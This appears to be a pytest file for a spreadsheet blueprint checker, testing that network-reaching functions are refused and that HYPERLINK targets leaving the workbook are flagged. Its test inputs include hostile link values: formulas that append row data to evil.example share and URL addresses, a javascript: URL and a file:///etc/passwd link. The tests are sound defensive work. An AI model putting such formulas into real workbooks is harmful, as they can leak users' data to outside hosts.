"""Formulas of a blueprint stay in their workbook, in every profile."""

from __future__ import annotations

from pathlib import Path

import pytest

from plansheets.blueprint.read import examine_text
from plansheets.formula.functions import functions
from plansheets.plan.build import check

BLUEPRINT = """
blueprint: out
version: 1.0.0
title: Out
tables:
  tt:
    title: T
    columns:
      - {id: kk, type: key, label: k}
      - id: ff
        type: text
        label: f
        formula: >-
          FORMULA
sheets: [{id: main, title: Main, blocks: [table: tt]}]
"""


def codes(formula: str) -> list[str]:
    reading = examine_text(BLUEPRINT.replace("FORMULA", formula), "out.yaml", Path())
    return [problem.code for problem in check(reading, "excel365") if problem.level == "error"]


@pytest.mark.parametrize("name", [one.name for one in functions().values() if one.reaches_out])
def test_a_function_that_asks_the_network_is_refused(name: str) -> None:
    function = functions()[name]
    arguments = ",".join(["[@kk]"] * max(function.minimum, 1))
    assert "PS241" in codes(f'=IF(1=1,{name}({arguments}),"")')


@pytest.mark.parametrize(
    "address",
    [
        '"\\\\evil.example\\share\\"&[@kk]',
        '"\\\\evil.example\\share"',
        '"javascript:alert(1)"',
        '"FILE:///etc/passwd"',
        '"file.exe"',
        '"https://evil.example/?"&[@kk]',
        '[@kk]&"https://example.com"',
        '""&"#a"',
        "[@kk]",
    ],
)
def test_a_link_out_of_the_workbook_is_written_in_full(address: str) -> None:
    assert codes(f'=HYPERLINK({address},"Open")') == ["PS242"]


@pytest.mark.parametrize(
    "address",
    ['"https://example.com/"', '"mailto:a@example.com"', '"#"&[@kk]', '"#main!"&"A1"&"b"'],
)
def test_a_link_that_carries_nothing_is_no_problem(address: str) -> None:
    assert codes(f'=HYPERLINK({address},"Open")') == []
